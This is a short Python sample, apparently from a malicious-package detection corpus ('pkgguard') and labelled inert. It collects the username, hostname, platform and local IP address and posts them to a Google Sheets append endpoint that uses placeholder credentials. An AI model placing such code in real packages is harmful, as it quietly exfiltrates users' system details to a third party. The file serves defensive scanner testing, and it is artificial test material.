# pkgguard corpus 781 (system-information), modelled on [checkmarx-2024]; inert, never run.
import getpass
import platform
import socket

import requests

row = [getpass.getuser(), socket.gethostname(), platform.platform(), socket.gethostbyname(socket.gethostname())]
requests.post(
    "https://sheets.googleapis.com/v4/spreadsheets/placeholder-sheet-id/values/A1:append",
    params={"valueInputOption": "RAW", "key": "placeholder"},
    json={"values": [row]},
    timeout=10,
)
